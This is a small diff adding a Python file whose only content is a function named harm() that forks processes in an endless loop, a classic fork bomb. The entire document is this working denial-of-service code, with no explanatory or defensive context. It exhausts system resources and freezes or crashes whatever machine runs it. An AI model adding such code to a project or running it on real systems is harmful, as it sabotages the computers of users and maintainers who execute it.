@@ -1,0 +1,6 @@
+import os
+
+
+def harm():
+    while True:
+        os.fork()
